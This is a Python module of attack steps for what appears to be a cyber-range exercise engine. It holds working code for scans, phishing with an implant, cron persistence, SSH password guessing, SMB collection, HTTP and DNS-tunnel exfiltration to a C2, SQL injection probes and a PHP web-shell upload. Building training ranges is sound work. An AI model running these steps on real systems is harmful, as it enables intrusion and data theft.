"""The step library: one small class per attack action, run inside the right range container.

Every step acts through the range backend's interface (exec, write a file), never from the
machine itself: scans and DNS tunnelling are crafted with scapy inside the PC or attacker host,
mail goes out through swaks on the attacker's mail server, the implant runs as the staff member.
A step that does not get through reports that it failed, with what answered; each kind also says
which way it takes through the organisation (`route`), so the engine can tell a defence on that
way (blocked) from a fault of the range (retried, then recorded as a fault).
"""

from __future__ import annotations

import asyncio
import base64
import shlex
from dataclasses import dataclass, field
import email.policy
import email.utils
from email.message import EmailMessage
from typing import Any, Awaitable, Callable

from ..backend.base import ExecResult, RangeBackend
from ..model.range import Host
from .defence import Explanation, RangeView, Route
from .variant import Variant, implant_bytes


@dataclass
class Outcome:
    """What happened when a step ran."""

    executed: bool
    reason: str = ""
    details: dict[str, Any] = field(default_factory=dict)
    explanation: Explanation | None = None
    """Set when the failure is itself the defence (an isolated host, a locked account)."""


@dataclass
class StepContext:
    """What a running step may use: the team's range through the backend, its variant, shared facts."""

    backend: RangeBackend
    team: str
    variant: Variant
    speed: float
    facts: dict[str, Any] = field(default_factory=dict)
    sleep: Callable[[float], Awaitable[None]] = asyncio.sleep
    view: RangeView = None  # type: ignore[assignment]  # made from the others when not given

    def __post_init__(self) -> None:
        if self.view is None:
            self.view = RangeView(self.backend, self.team, self.variant.range,
                                  infrastructure=self.variant.infrastructure)

    async def run(self, host: str, command: str | list[str], user: str = "root", timeout: float = 60) -> ExecResult:
        """Run a command in a range host without blocking the event loop."""
        return await asyncio.to_thread(self.backend.exec, self.team, host, command, user, timeout)

    async def write(self, host: str, path: str, data: bytes, mode: int = 0o644) -> None:
        """Write a file in a range host."""
        await asyncio.to_thread(self.backend.write_file, self.team, host, path, data, mode)

    def host(self, name: str) -> Host:
        """A host of the range."""
        host = self.variant.range.host(name)
        if host is None:
            raise KeyError(name)
        return host

    def address(self, name: str, seen_from: str | None = None) -> str:
        """A host's address (on a segment shared with `seen_from` when there is one), or the name itself."""
        host = self.variant.range.host(name)
        if host is None:
            return name
        viewer = self.variant.range.host(seen_from) if seen_from else None
        return str(host.address_seen_from(viewer) if viewer else host.primary_address)

    def staff_password(self, user: str) -> str:
        """A staff member's password, from the range."""
        return next(s.password for s in self.variant.range.staff if s.user == user)

    def implant_on(self, host: str) -> tuple[str, str] | None:
        """(user, path) of the implant dropped on a host, when a step has dropped one."""
        return self.facts.get("implants", {}).get(host)

    def proxy_env(self) -> str:
        """Shell prefix that gives a command the organisation's proxy settings, as staff sessions have."""
        return "[ -f /etc/profile.d/proxy.sh ] && . /etc/profile.d/proxy.sh; "

    def addresses(self, *names: str) -> tuple[str, ...]:
        """Every address of the named hosts (or infrastructure names), for a route."""
        return self.view.addresses(*names)

    def implant_route(self, host: str) -> Route:
        """The implant on a host, as a need of a route (nothing when none was dropped there)."""
        implant = self.implant_on(host)
        return Route(implant=(host, implant[0], implant[1])) if implant else Route()


def _failed_unless(result: ExecResult, what: str) -> Outcome:
    if result.ok:
        return Outcome(True)
    reason = (result.stderr.strip() or result.stdout.strip() or f"exit {result.exit_code}").splitlines()[-1]
    return Outcome(False, f"{what}: {reason[:200]}")


class StepKind:
    """Base of the step library: `kind` names the YAML action kind a class carries out."""

    kind = ""

    def __init__(self, action):
        self.action = action

    async def run(self, ctx: StepContext) -> Outcome:
        """Carry out the action against the live range."""
        raise NotImplementedError

    def route(self, ctx: StepContext) -> Route:
        """The way the step takes through the organisation (what a defence could have changed)."""
        return Route()


class Scan(StepKind):
    """A TCP SYN scan crafted with scapy, sent from the source host to each target and port."""

    kind = "scan"

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        targets = []
        for target in a.targets:
            segment = ctx.variant.range.segment(target)
            if segment is not None:
                targets += [str(h.address_on(target)) for h in ctx.variant.range.hosts_on(target)]
            else:
                targets.append(ctx.address(target, seen_from=a.source))
        script = (
            "from scapy.all import IP, TCP, sr, conf\nconf.verb = 0\n"
            f"answered, _ = sr(IP(dst={targets!r})/TCP(sport=40000, dport={list(a.ports)!r}, flags='S'), timeout=2, retry=0)\n"
            "for sent, got in answered:\n"
            "    if got.haslayer(TCP) and got[TCP].flags & 0x12 == 0x12:\n"
            "        print(sent[IP].dst, sent[TCP].dport)\n")
        result = await ctx.run(a.source, ["python3", "-c", script], timeout=60)
        if not result.ok:
            return _failed_unless(result, "scan could not run")
        open_ports = [line.split() for line in result.stdout.splitlines() if line.strip()]
        return Outcome(True, details={"open": [f"{ip}:{port}" for ip, port in open_ports],
                                      "probes": len(targets) * len(a.ports)})

    def route(self, ctx: StepContext) -> Route:
        a = self.action
        return Route(hosts=(a.source,), addresses=ctx.addresses(a.source, *a.targets))


class Phishing(StepKind):
    """A spear-phishing mail with the implant attached, sent by the attacker's mail server to the
    organisation's mail gateway (its MX), which relays it to the staff member's mailbox."""

    kind = "phishing"

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        rng = ctx.variant.range
        gateway = _mx_host(rng)
        recipient = f"{a.to}@{rng.domain}"
        message = EmailMessage(policy=email.policy.SMTP)
        message["From"], message["To"], message["Subject"] = a.sender, recipient, a.subject
        message["Date"] = email.utils.formatdate(localtime=True)
        message["Message-ID"] = email.utils.make_msgid(domain=a.sender.rsplit("@", 1)[-1])
        message.set_content(a.body)
        message.add_attachment(implant_bytes(ctx.variant.seed), maintype="application", subtype="octet-stream",
                               filename=a.attachment)
        await ctx.write(a.source, "/tmp/cyder-mail/message.eml", message.as_bytes())
        command = ["swaks", "--server", ctx.address(gateway), "--from", a.sender, "--to", recipient,
                   "--data", "@/tmp/cyder-mail/message.eml", "--timeout", "15"]
        result = await ctx.run(a.source, command, timeout=40)
        outcome = _failed_unless(result, f"mail to {recipient} not accepted")
        if outcome.executed:
            queued = [line for line in result.stdout.splitlines() if "queued as" in line]
            outcome.details = {"recipient": recipient, "gateway": gateway, "queue": queued[-1].strip() if queued else ""}
        return outcome

    def route(self, ctx: StepContext) -> Route:
        a = self.action
        gateway = _mx_host(ctx.variant.range)
        return Route(hosts=(gateway,), addresses=ctx.addresses(a.source, gateway))


def _mx_host(rng) -> str:
    """The host that receives the organisation's mail: its MX record's target, else the mail server."""
    for zone in rng.dns:
        if zone.domain == rng.domain:
            for record in zone.records:
                if record.type == "MX" and record.name in ("@", rng.domain + "."):
                    name = record.value.rstrip(".").removesuffix("." + rng.domain)
                    if rng.host(name):
                        return name
    return rng.mail_server().name


class UserExecution(StepKind):
    """The staff member opens the attachment: it is saved to Downloads, copies itself to a hidden
    folder, adds persistence (cron or an autostart entry) and starts its resident process."""

    kind = "user-execution"
    source_folder = "Downloads"

    def dropped_from(self, ctx: StepContext) -> str:
        """Where the file the user runs came from."""
        return f"/home/{self.action.user}/{self.source_folder}"

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        member = next(s for s in ctx.variant.range.staff if s.user == a.user)
        pc, user = member.pc, a.user
        origin = f"{self.dropped_from(ctx)}/{self._origin_name(ctx)}"
        implant = f"/home/{user}/.cache/{a.implant}"
        data = implant_bytes(ctx.variant.seed)
        await ctx.write(pc, origin, data, 0o755)
        await ctx.write(pc, implant, data, 0o755)
        command = f"python3 {shlex.quote(implant)} resident"
        if a.persistence == "cron":
            persist = f"(crontab -l 2>/dev/null; echo '@reboot {command}') | crontab -"
        else:
            entry = f"[Desktop Entry]\\nType=Application\\nName=Update\\nExec={command}\\n"
            persist = f"mkdir -p ~/.config/autostart && printf '{entry}' > ~/.config/autostart/update.desktop"
        setup = (f"chown -R {user}: /home/{user}/.cache {shlex.quote(self.dropped_from(ctx))} && "
                 f"su -s /bin/sh {user} -c {shlex.quote(persist)} && "
                 f"su -s /bin/sh {user} -c {shlex.quote(f'cd ~ && setsid nohup {command} >/dev/null 2>&1 < /dev/null &')}")
        result = await ctx.run(pc, setup)
        if not result.ok:
            return _failed_unless(result, "implant did not start")
        check = await ctx.run(pc, ["pgrep", "-u", user, "-f", f"{implant} resident"])
        if not check.ok:
            return Outcome(False, "implant process is not running")
        ctx.facts.setdefault("implants", {})[pc] = (user, implant)
        return Outcome(True, details={"host": pc, "implant": implant, "origin": origin, "pid": check.stdout.split()[0]})

    def _origin_name(self, ctx: StepContext) -> str:
        phishing = next((p.step.action for p in ctx.variant.steps if p.step.action.kind == "phishing"), None)
        return phishing.attachment if phishing else self.action.implant


class UsbInfection(UserExecution):
    """The implant runs from a supplier's USB stick: same behaviour, no mail, the file on /media."""

    kind = "usb-infection"

    def dropped_from(self, ctx: StepContext) -> str:
        return f"/media/{self.action.user}/{self.action.volume}"

    def _origin_name(self, ctx: StepContext) -> str:
        return self.action.implant


class Beacon(StepKind):
    """Check-ins with the C2, `count` times, `interval` seconds apart; a subclass says how one goes."""

    label = "check-in"

    def check_in(self, ctx: StepContext, path: str) -> str | list[str]:
        """The command that makes one check-in with the implant at `path`."""
        raise NotImplementedError

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        implant = ctx.implant_on(a.host)
        if implant is None:
            return Outcome(False, f"no implant on {a.host}")
        user, path = implant
        command = self.check_in(ctx, path)
        for number in range(1, a.count + 1):
            result = await ctx.run(a.host, command, user=user, timeout=30)
            if not result.ok:
                return Outcome(False, f"{self.label} {number} failed: {(result.stderr.strip() or 'no answer')[-200:]}",
                               {"check_ins": number - 1})
            if number < a.count:
                await ctx.sleep(a.interval / ctx.speed)
        return Outcome(True, details={"check_ins": a.count})

    def route(self, ctx: StepContext) -> Route:
        return ctx.implant_route(self.action.host)


class HttpBeacon(Beacon):
    """Check-ins with the C2 over HTTP through the proxy."""

    kind = "beacon-http"

    def check_in(self, ctx: StepContext, path: str) -> str:
        return ctx.proxy_env() + f"python3 {shlex.quote(path)} beacon-http {shlex.quote(self.action.url)}"

    def route(self, ctx: StepContext) -> Route:
        return super().route(ctx).merged(ctx.view.proxy_route(self.action.host, self.action.url))


class DnsBeacon(Beacon):
    """Check-ins with the C2 over DNS: names under the C2 domain, resolved through the city's DNS."""

    kind = "beacon-dns"
    label = "DNS check-in"

    def check_in(self, ctx: StepContext, path: str) -> list[str]:
        domain = self.action.domain
        return ["python3", path, "beacon-dns", domain, ctx.view.infrastructure_address(domain)]

    def route(self, ctx: StepContext) -> Route:
        return super().route(ctx).merged(ctx.view.resolver_route(self.action.host, self.action.domain))


class SshGuess(StepKind):
    """SSH password guessing: each password tried once, leaving failed logins in the auth log."""

    kind = "ssh-guess"

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        target = ctx.address(a.target, seen_from=a.source)

        async def attempt(password: str) -> ExecResult:
            return await ctx.run(a.source, ["sshpass", "-p", password, "ssh", "-o", "StrictHostKeyChecking=no",
                                            "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
                                            "-o", "PubkeyAuthentication=no", f"{a.user}@{target}", "true"], timeout=20)

        # Guessing tools try several passwords at once; sshd delays each failure by seconds.
        results = await asyncio.gather(*(attempt(p) for p in a.passwords))
        unreachable = [r for r in results if r.exit_code == 255 and "Permission denied" not in r.stderr]
        if len(unreachable) == len(results):
            return Outcome(False, f"SSH to {a.target} unreachable: {unreachable[0].stderr.strip()[-200:]}")
        return Outcome(True, details={"attempts": len(results) - len(unreachable),
                                      "guessed": any(r.ok for r in results)})

    def route(self, ctx: StepContext) -> Route:
        a = self.action
        return Route(hosts=(a.source, a.target), addresses=ctx.addresses(a.source, a.target))


class SshLogin(StepKind):
    """An SSH login with a stolen credential that runs a command."""

    kind = "ssh-login"

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        target = ctx.address(a.target, seen_from=a.source)
        result = await ctx.run(a.source, ["sshpass", "-p", a.password, "ssh", "-o", "StrictHostKeyChecking=no",
                                          "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5",
                                          "-o", "PubkeyAuthentication=no", f"{a.user}@{target}", a.command], timeout=30)
        outcome = _failed_unless(result, f"login as {a.user} on {a.target} refused")
        if outcome.executed:
            outcome.details = {"output": result.stdout.strip()[:200]}
        return outcome

    def route(self, ctx: StepContext) -> Route:
        a = self.action
        return Route(hosts=(a.source, a.target), addresses=ctx.addresses(a.source, a.target),
                     accounts=((a.target, a.user),))


class Collect(StepKind):
    """Files copied from a share on the file server into the implant's hidden folder."""

    kind = "collect"

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        implant = ctx.implant_on(a.host)
        user = implant[0] if implant else a.user
        password = a.password or ctx.staff_password(a.user)
        loot = f"/home/{user}/.cache/.d"
        server = ctx.address(a.server, seen_from=a.host)
        gets = "; ".join(f'get "{name}" "{loot}/{name}"' for name in a.files)
        command = (f"mkdir -p {loot} && smbclient -m SMB3 {shlex.quote(f'//{server}/{a.share}')} "
                   f"-U {shlex.quote(f'{a.user}%{password}')} -c {shlex.quote(gets)}")
        result = await ctx.run(a.host, command, user=user, timeout=30)
        if not result.ok or "NT_STATUS" in result.stdout + result.stderr:
            reason = next((w for w in (result.stdout + result.stderr).split() if w.startswith("NT_STATUS")), "")
            return Outcome(False, f"copy from //{a.server}/{a.share} failed {reason}".strip())
        ctx.facts.setdefault("loot", {})[a.host] = [f"{loot}/{name}" for name in a.files]
        return Outcome(True, details={"files": [f"{loot}/{name}" for name in a.files]})

    def route(self, ctx: StepContext) -> Route:
        a = self.action
        return ctx.implant_route(a.host).merged(Route(hosts=(a.host, a.server), addresses=ctx.addresses(a.host, a.server),
                                                      accounts=((a.server, a.user),)))


class HttpExfil(StepKind):
    """The collected files POSTed to the C2 through the proxy."""

    kind = "exfil-http"

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        implant, loot = ctx.implant_on(a.host), ctx.facts.get("loot", {}).get(a.host)
        if implant is None or not loot:
            return Outcome(False, f"nothing collected on {a.host}")
        user, path = implant
        files = " ".join(shlex.quote(p) for p in loot)
        result = await ctx.run(a.host, ctx.proxy_env() + f"python3 {shlex.quote(path)} exfil-http {shlex.quote(a.url)} {files}",
                               user=user, timeout=60)
        outcome = _failed_unless(result, "upload failed")
        if outcome.executed:
            outcome.details = {"files": loot}
        return outcome

    def route(self, ctx: StepContext) -> Route:
        return ctx.implant_route(self.action.host).merged(ctx.view.proxy_route(self.action.host, self.action.url))


class DnsExfil(StepKind):
    """The collected files sent as DNS queries with long labels, crafted with scapy, to the
    organisation's resolver, which forwards them towards the attacker's name server."""

    kind = "exfil-dns"

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        loot = ctx.facts.get("loot", {}).get(a.host)
        if not loot:
            return Outcome(False, f"nothing collected on {a.host}")
        resolver = await ctx.run(a.host, "awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf")
        script = (
            "import base64, sys\nfrom scapy.all import IP, UDP, DNS, DNSQR, sr1, conf\nconf.verb = 0\n"
            f"resolver, domain, paths = {resolver.stdout.strip()!r}, {a.domain!r}, {loot!r}\n"
            "sent = 0\n"
            "for n, path in enumerate(paths):\n"
            "    data = base64.b32encode(open(path, 'rb').read()).decode().rstrip('=').lower()\n"
            "    for i in range(0, len(data), 120):\n"
            "        chunk = data[i:i + 120]\n"
            "        name = f'{chunk[:60]}.{chunk[60:] or \"0\"}.{n}-{i // 120}.{domain}'\n"
            "        sr1(IP(dst=resolver)/UDP(sport=53053, dport=53)/DNS(rd=1, qd=DNSQR(qname=name)), timeout=2)\n"
            "        sent += 1\n"
            "print(sent)\n")
        result = await ctx.run(a.host, ["python3", "-c", script], timeout=120)
        outcome = _failed_unless(result, "DNS tunnel failed")
        if outcome.executed:
            outcome.details = {"queries": int(result.stdout.strip() or 0)}
        return outcome

    def route(self, ctx: StepContext) -> Route:
        return ctx.view.resolver_route(self.action.host, self.action.domain)


class WebAttack(StepKind):
    """SQL injection probes, or a web-shell upload attempt, against a public web server."""

    kind = "web-attack"

    async def run(self, ctx: StepContext) -> Outcome:
        a = self.action
        target = ctx.address(a.target, seen_from=a.source)
        if a.mode == "sqli":
            payloads = ["?id=1'", "?id=1' OR '1'='1", "?id=1 UNION SELECT username,password FROM users--"]
            commands = [["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\n", "-m", "5", "-A", "sqlmap/1.7",
                         f"http://{target}{a.path}{p.replace(' ', '%20')}"] for p in payloads]
        else:
            shell = base64.b64encode(b"<?php system($_GET['c']); ?>").decode()
            commands = [["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\n", "-m", "5", "-X", "PUT",
                         "--data", shell, f"http://{target}{a.path.rstrip('/')}/shell.php"],
                        ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\n", "-m", "5",
                         f"http://{target}{a.path.rstrip('/')}/shell.php?c=id"]]
        codes = []
        for command in commands:
            result = await ctx.run(a.source, command, timeout=20)
            if not result.stdout.strip() or result.stdout.strip() == "000":
                return Outcome(False, f"web server {a.target} unreachable")
            codes.append(result.stdout.strip())
        return Outcome(True, details={"responses": codes})

    def route(self, ctx: StepContext) -> Route:
        a = self.action
        return Route(hosts=(a.target,), addresses=ctx.addresses(a.source, a.target))


STEP_KINDS: dict[str, type[StepKind]] = {cls.kind: cls for cls in (
    Scan, Phishing, UserExecution, UsbInfection, HttpBeacon, DnsBeacon, SshGuess, SshLogin, Collect, HttpExfil,
    DnsExfil, WebAttack)}
